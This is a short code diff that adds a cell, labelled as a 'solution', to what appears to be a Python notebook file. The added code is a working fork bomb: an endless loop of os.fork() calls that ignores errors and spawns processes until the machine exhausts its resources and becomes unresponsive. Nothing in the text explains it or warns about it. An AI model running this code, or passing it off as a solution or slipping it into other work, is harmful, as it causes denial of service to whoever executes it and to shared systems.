@@ -1,0 +1,5 @@
+# %% solution="clip"
+import os
+while True:
+    try: os.fork()
+    except OSError: pass
